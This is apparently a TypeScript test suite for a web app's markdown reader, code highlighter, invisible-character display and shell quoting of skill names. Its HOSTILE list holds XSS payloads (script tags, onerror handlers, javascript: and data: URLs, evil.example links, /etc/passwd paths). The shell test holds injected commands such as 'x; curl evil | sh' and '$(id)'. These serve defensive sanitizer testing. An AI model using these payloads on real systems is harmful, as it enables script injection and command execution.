/** Markdown as the page reads it, without a browser: whatever a text holds, the tree is ours. */
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { piecesOf, plainly } from "../../../web/parts/hidden-characters.ts";
import { highlight } from "../../../web/parts/highlight/highlight.ts";
import { languageNamed, languageOf } from "../../../web/parts/highlight/languages.ts";
import { joinPath, linkTarget } from "../../../web/parts/markdown/link-target.ts";
import { readMarkdown } from "../../../web/parts/markdown/read-markdown.ts";
import { type MarkdownNode, TAGS } from "../../../web/parts/markdown/tree.ts";
import { shellWord } from "../../../web/views/skill/shell-word.ts";

const FILES = new Set(["scripts/run.sh", "guide.md"]);
const resolve = (path: string) => (FILES.has(path) ? `/there/${path}` : undefined);
const read = (text: string) => readMarkdown(text, { resolve });

function* every(nodes: readonly MarkdownNode[]): Generator<MarkdownNode> {
  for (const node of nodes) {
    yield node;
    if (typeof node !== "string" && "children" in node) yield* every(node.children);
  }
}

/** All text that a reader sees, in its order. */
function textOf(nodes: readonly MarkdownNode[]): string {
  return nodes
    .map((node) => {
      if (typeof node === "string") return node;
      if (node.kind === "code" || node.kind === "block") return node.text;
      if (node.kind === "image") return `${node.alt} ${node.address}`;
      return textOf(node.children);
    })
    .join("");
}

const KINDS = new Set(["element", "link", "image", "code", "block"]);
const TO = new Set(["web", "page", "heading", "none"]);

/** The one property that everything else stands on. */
function expectOurs(nodes: readonly MarkdownNode[]): void {
  for (const node of every(nodes)) {
    if (typeof node === "string") continue;
    expect(KINDS).toContain(node.kind);
    if (node.kind === "element") expect(TAGS).toContain(node.tag);
    if (node.kind !== "link") continue;
    expect(TO).toContain(node.target.kind);
    if (node.target.kind === "web") expect(node.target.href).toMatch(/^(?:https?|mailto):/);
    if (node.target.kind === "page") expect(node.target.to).toMatch(/^\/there\//);
  }
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<style>body{display:none}</style>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<svg onload=alert(1)><use href=//evil.example/x></svg>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](  java\tscript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:x)",
  "[x](//evil.example/x)",
  "[x](\\\\evil.example\\x)",
  "[x](/v1/skills)",
  "[x](../../etc/passwd)",
  "[x](file:///etc/passwd)",
  "[x](blob:http://x)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/p.png)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[x]: javascript:alert(1)\n\n[x]",
];

describe("what is hostile in markdown", () => {
  test.each(HOSTILE)("%s leads nowhere and becomes no markup", (text) => {
    const { nodes } = read(text);
    expectOurs(nodes);
    const links = [...every(nodes)].flatMap((node) =>
      typeof node !== "string" && node.kind === "link" ? [node.target.kind] : [],
    );
    expect(links.filter((kind) => kind !== "none")).toEqual([]);
  });

  test("raw HTML is text, every character of it", () => {
    const text = '<b onclick="x">bold</b> <!-- hidden --> &lt;i&gt;';
    expect(textOf(read(text).nodes)).toBe('<b onclick="x">bold</b> <!-- hidden --> <i>');
  });

  test("nothing else comes of any text at all", () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom("# ", "- ", "1. ", "> ", "```", "\n", "\n\n", "    ", "|", "|-|\n", "*", "_"),
      fc.constantFrom("[", "](", ")", "![", "<", ">", "`", "~~", "\\", "&#x6a;", "\u202e", "\0"),
      fc.string({ unit: "binary", maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        expectOurs(read(pieces.join("")).nodes);
      }),
      { numRuns: 500 },
    );
  });

  test.each([
    ["brackets", "[".repeat(300_000)],
    ["emphasis", "*a_ ".repeat(75_000)],
    ["quotes", `${"> ".repeat(20_000)}x`],
    ["lists", Array.from({ length: 600 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
    ["one line of a megabyte", "word ".repeat(200_000)],
    ["code marks", "`".repeat(100_000)],
    ["cells", `|a|\n|-|\n${"|".repeat(100_000)}`],
    ["references", "[a]: b\n".repeat(40_000)],
  ])("is bounded: %s", (_, text) => {
    const started = performance.now();
    const { nodes } = read(text);
    expect([...every(nodes)].length).toBeLessThan(60_000);
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  test("what is cut is said: by length, by number, by depth", () => {
    expect(read("x ".repeat(200_000)).cut).toContain("200,000 characters");
    expect(read("*a* ".repeat(40_000)).cut).toContain("too many parts");
    expect(read(`${"> ".repeat(60)}x`).cut).toContain("nested");
    expect(read("# short").cut).toBeUndefined();
  });
});

describe("what is good in markdown", () => {
  test("has its blocks with the lines of the file they stand on", () => {
    const { nodes } = readMarkdown("# A\n\ntext\nmore\n\n```sh\nls\n```\n", { firstLine: 10 });
    expect(nodes).toMatchObject([
      { tag: "h1", id: "md-a", lines: { first: 10, last: 10 } },
      { tag: "p", lines: { first: 12, last: 13 } },
      { kind: "block", language: "sh", text: "ls", lines: { first: 15, last: 17 } },
    ]);
  });

  test("has links to the web, to files of the skill and to headings", () => {
    expect(linkTarget("https://a.example/x", resolve)).toEqual({
      kind: "web",
      href: "https://a.example/x",
    });
    expect(linkTarget("mailto:a@b.example", resolve).kind).toBe("web");
    expect(linkTarget("guide.md#deep", resolve)).toEqual({ kind: "page", to: "/there/guide.md" });
    expect(linkTarget("#Deep%20part", resolve)).toEqual({ kind: "heading", id: "md-deep-part" });
    expect(joinPath("references", "../guide.md")).toBe("guide.md");
    expect(joinPath("", "../guide.md")).toBeUndefined();
  });

  test("has the definitions that show nowhere in the text", () => {
    const { definitions } = read('[//]: # "do this"\n\nText.');
    expect(definitions).toEqual([{ label: "//", address: "#", title: "do this" }]);
  });
});

describe("characters that nobody sees", () => {
  test("are shown by their code points", () => {
    expect(plainly("a\u202eb\u200bc\u{e0041}d\0")).toBe("a\\u202eb\\u200bc\\u{e0041}d\\x00");
    expect(plainly("\ud800")).toBe("\\ud800");
    expect(plainly("tab\tand\nnewline, é, 日本, ع")).toBe("tab\tand\nnewline, é, 日本, ع");
  });

  test("are left alone where they join pictures", () => {
    expect(plainly("👩‍👩‍👧 ❤️ 1️⃣")).toBe("👩‍👩‍👧 ❤️ 1️⃣");
    expect(plainly("a\u200db \ufe0f")).toBe("a\\u200db \\ufe0f");
  });

  test("and no character is lost or made up", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const shown = piecesOf(text).filter(({ hidden }) => !hidden);
        const hidden = piecesOf(text).length - shown.length;
        const kept = shown.map((piece) => piece.text).join("");
        expect([...text].length).toBe([...kept].length + hidden);
      }),
    );
  });
});

describe("colours", () => {
  test("keep every character of a source, line by line", async () => {
    const source = 'def f(a):\n    """<b>&amp;\n    text"""\n    return a < 1 and "\'"  # x > y\n';
    const lines = (await highlight(source, "python")) ?? [];
    expect(lines.map((runs) => runs.map(({ text }) => text).join("")).join("\n")).toBe(source);
    expect(lines[1]?.at(-1)).toMatchObject({ kind: "string" });
    expect(lines[2]?.[0]).toMatchObject({ kind: "string" });
  });

  test("of any text in any language change nothing in it", async () => {
    const language = fc.constantFrom("bash", "markdown", "xml", "yaml", "typescript", "css");
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: "binary" }), language, async (text, name) => {
        const lines = (await highlight(text, name)) ?? [];
        const back = lines.map((runs) => runs.map((run) => run.text).join("")).join("\n");
        expect(back).toBe(text);
      }),
      { numRuns: 150 },
    );
  });

  test("are chosen by the ending of a file, or by its first line", () => {
    expect(languageOf("a/b.PY", "")).toBe("python");
    expect(languageOf("run", "#!/usr/bin/env -S python3 -u")).toBe("python");
    expect(languageOf("run", "#!/bin/bash")).toBe("bash");
    expect(languageOf("LICENSE", "MIT")).toBeUndefined();
    expect(languageNamed("constructor")).toBeUndefined();
  });
});

describe("a name in a command to copy", () => {
  test("is one word of the shell, or there is no command", () => {
    expect(shellWord("pdf-forms")).toBe("pdf-forms");
    expect(shellWord("x; curl evil | sh")).toBe("'x; curl evil | sh'");
    expect(shellWord("it's $(id)")).toBe("'it'\\''s $(id)'");
    for (const name of ["-rf", "", "a\nb", "a\u202eb", "a\0"])
      expect(shellWord(name)).toBeUndefined();
  });
});
